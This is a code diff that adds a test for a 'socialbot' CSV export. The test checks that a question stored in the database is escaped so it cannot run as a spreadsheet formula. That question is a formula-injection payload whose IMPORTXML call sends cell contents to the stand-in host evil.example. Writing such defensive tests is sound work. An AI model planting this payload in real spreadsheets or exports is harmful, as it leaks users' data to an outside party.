@@ -193,3 +193,17 @@ def test_the_leaderboard_names_only_who_joined_it(socialbot, monkeypatch, tmp_pa
     assert leaders() == [{"name": "ann", "clicks": 1}]
     socialbot("console", "--user", "ann", input=preferences("2"))
     assert leaders() == []
+
+
+def test_csv_never_hands_a_spreadsheet_a_formula(socialbot) -> None:
+    # Any employee's question not covered, any feed's title, lands in a cell of the export.
+    question = '=IMPORTXML(CONCAT("https://evil.example/?q=",A1),"//a")'
+    with Database(Path("socialbot.db")) as db:
+        db.execute(
+            "UPDATE guideline_answers SET question = ? WHERE verdict = 'not_covered'", [question]
+        )
+
+    rows = list(csv.reader(io.StringIO(socialbot(*WEEK, "--csv").stdout)))
+
+    assert ["question_not_covered", "'" + question, "", "1"] in rows
+    assert ["shares", "", "linkedin", "3"] in rows  # figures stay figures
